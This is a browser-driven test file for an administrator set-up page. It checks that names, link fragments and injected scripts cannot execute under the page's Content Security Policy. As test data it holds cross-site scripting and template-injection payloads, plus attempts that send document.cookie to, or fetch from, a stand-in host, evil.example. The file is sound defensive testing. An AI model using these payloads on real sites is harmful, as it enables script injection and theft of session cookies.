import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { generateSync } from 'otplib';
import { composeServer, type ComposedServer } from './composed-server.ts';
import { findBrowser, type RealBrowser, startBrowser } from './real-browser.ts';

const password = 'plinth ocelot quaver tumbril';

/** Names that would be markup, script or a template if any part of the page took them for more than text. */
const hostile = [
  '<img src=x onerror="window.owned=1;alert(1)">',
  '"><script>window.owned=1;alert(1)</script>',
  '</script><script nonce="{{nonce}}">window.owned=1</script>',
  `'-alert(1)-'\`\${alert(1)}\``,
  'javascript:alert(1)//',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;svg onload=alert(1)&gt;\u202e\u2066<svg/onload=alert(1)>',
  "$& $1 $` $' {{script}}",
];

const browserProgram = findBrowser();
const missing = browserProgram === undefined && 'there is no Chromium on this machine';

describe('the set-up page in a real browser', { skip: missing }, () => {
  let server: ComposedServer;
  let browser: RealBrowser;
  before(async () => {
    [server, browser] = await Promise.all([composeServer(), startBrowser(browserProgram ?? '')]);
  });
  after(async () => {
    await browser?.[Symbol.asyncDispose]();
    await server[Symbol.asyncDispose]();
  });

  async function invite(slug: string, name: string, email: string): Promise<string> {
    const made = await server.operate('POST', '/organizations', { slug, name });
    assert.equal(made.statusCode, 201, made.body);
    const invited = await server.operate('POST', '/administrators', { email, role: 'auditor' }, slug);
    assert.equal(invited.statusCode, 201, invited.body);
    return (invited.json() as { setupUrl: string }).setupUrl;
  }
  const text = (id: string) => `document.getElementById('${id}').textContent`;

  test('ADM-04 names of organizations and people are text on the page, whatever they look like', async () => {
    for (const [index, name] of hostile.entries()) {
      const email = `o'${index}+{{nonce}}&$\`@acme.example`;
      const page = await browser.open(await invite(`hostile-${index}`, name, email));
      await page.until(`!document.getElementById('form').hidden`);
      assert.equal(
        await page.evaluate(text('who')),
        `Administrator of ${name} (short name: hostile-${index})`,
      );
      assert.equal(await page.evaluate(`document.getElementById('email').value`), email);
      const uri = await page.evaluate<string>(`document.getElementById('uri').href`);
      assert.match(uri, /^otpauth:\/\/totp\//);
      const counts = `[...document.querySelectorAll('script,img,svg,iframe')].map((node) => node.tagName).join()`;
      // The drawing is the code to scan, and holds one path.
      assert.equal(await page.evaluate(counts), 'svg,SCRIPT');
      assert.equal(
        await page.evaluate(
          `[...document.getElementById('qr').querySelectorAll('*')].map((node) => node.tagName).join()`,
        ),
        'path',
      );
      assert.equal(await page.evaluate('typeof window.owned'), 'undefined');
      assert.deepEqual(page.complaints, [], name);
      await page.close();
    }
  });

  test('ADM-04 what stands behind the # of a link is only ever a credential', async () => {
    const { port } = new URL(`https://localhost:${server.ports.main}`);
    for (const fragment of [
      '',
      '<img src=x onerror=alert(1)>',
      'gth_inv_nonsense',
      '%00%0d%0a',
      '__proto__',
    ]) {
      const page = await browser.open(`https://localhost:${port}/setup#${fragment}`);
      await page.until(`${text('status')} !== 'Checking the link…'`);
      assert.ok(await page.evaluate(`document.getElementById('form').hidden`));
      assert.equal(await page.evaluate('location.hash'), '', 'it does not stay in the address bar');
      // The browser itself notes the refusal that the page asked for.
      const own = page.complaints.filter((complaint) => !/status of 4(?:00|10)/.test(complaint));
      assert.deepEqual(own, [], fragment);
      await page.close();
    }
  });

  test('ADM-04 script and style that are not ours do not run, were they ever to get in', async () => {
    const page = await browser.open(await invite('policy', 'Policy', 'policy@acme.example'));
    await page.until(`!document.getElementById('form').hidden`);
    assert.deepEqual(page.complaints, []);
    const attempts = [
      `{ const s = document.createElement('script'); s.append('window.owned = 1'); document.body.append(s); }`,
      `{ const s = document.createElement('script'); try { s.src = 'data:text/javascript,window.owned=1'; } catch {} document.body.append(s); }`,
      `document.body.setAttribute('onclick', 'window.owned = 1'); document.body.click()`,
      `document.body.innerHTML += '<img src=x onerror="window.owned=1">'`,
      `{ const f = document.createElement('iframe'); f.srcdoc = '<script>parent.owned=1</script>'; document.body.append(f); }`,
      `{ const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); }`,
      `{ const i = new Image(); i.src = 'https://evil.example/?' + document.cookie; document.body.append(i); }`,
      `fetch('https://evil.example/', { mode: 'no-cors' }).catch(() => undefined)`,
      `{ const s = document.createElement('style'); s.append('body { display: none }'); document.head.append(s); }`,
      `setTimeout('window.owned = 1', 0)`,
    ];
    for (const attempt of attempts) {
      const before = page.complaints.length;
      const threw = await page.evaluate(attempt).then(
        () => false,
        () => true,
      );
      await new Promise((resolve) => setTimeout(resolve, 50));
      if (!threw) {
        await page.until('true');
        const deadline = Date.now() + 10_000;
        while (page.complaints.length === before && Date.now() < deadline)
          await new Promise((resolve) => setTimeout(resolve, 20));
        assert.match(
          page.complaints.slice(before).join(),
          /Content Security Policy|TrustedScript|base-uri/,
          attempt,
        );
      }
      assert.equal(await page.evaluate('typeof window.owned'), 'undefined', attempt);
    }
    assert.notEqual(await page.evaluate('getComputedStyle(document.body).display'), 'none');
    await page.close();
  });

  test('ADM-04 an account is set up by keyboard alone, and the page asks nobody but this server for anything', async () => {
    const email = 'keyboard@acme.example';
    const page = await browser.open(await invite('keyboard', 'Keyboard', email));
    await page.until(`document.activeElement?.id === 'password'`);
    const focused = () => page.evaluate<string>('document.activeElement.id');
    const secret = (await page.evaluate<string>(text('secret'))).replaceAll(' ', '');
    await page.type(password);
    await page.press('Tab');
    assert.equal(await focused(), 'repeat');
    await page.type('something else');
    await page.press('Enter');
    await page.until(`document.getElementById('repeat').getAttribute('aria-invalid') === 'true'`);
    assert.equal(await page.evaluate(text('problem')), 'The two passwords differ.');
    assert.equal(await focused(), 'repeat', 'one is taken to what is wrong');
    await page.evaluate(`document.getElementById('repeat').select()`);
    await page.type(password);
    for (let steps = 0; steps < 4 && (await focused()) !== 'code'; steps += 1) await page.press('Tab');
    assert.equal(await focused(), 'code');
    await page.type(generateSync({ secret }));
    await page.press('Tab');
    assert.equal(await focused(), 'submit');
    await page.press('Enter');
    await page.until(`${text('status')}.startsWith('Your account is ready')`);
    assert.deepEqual(page.complaints, []);
    for (const url of page.requests)
      assert.equal(new URL(url).origin, `https://localhost:${server.ports.main}`);
    await page.close();
    server.advance(60_000);
    const signedIn = await server.application.main.inject({
      method: 'POST',
      url: '/api/v1/session',
      headers: { host: 'localhost', 'content-type': 'application/json' },
      payload: JSON.stringify({
        organization: 'keyboard',
        email,
        password,
        code: generateSync({ secret, epoch: Date.now() / 1000 + 60 }),
      }),
    });
    assert.equal(signedIn.statusCode, 201, signedIn.body);
  });
});
